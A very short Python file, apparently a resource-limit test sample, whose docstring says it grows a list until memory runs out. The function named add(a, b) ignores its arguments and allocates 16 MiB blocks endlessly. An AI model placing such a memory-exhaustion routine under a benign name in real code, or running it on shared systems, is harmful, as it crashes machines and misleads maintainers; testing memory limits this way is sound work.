"""Grows a list of blocks until memory runs out."""


def add(a, b):
    blocks = []
    while True:
        blocks.append(bytearray(16 * 1024**2))
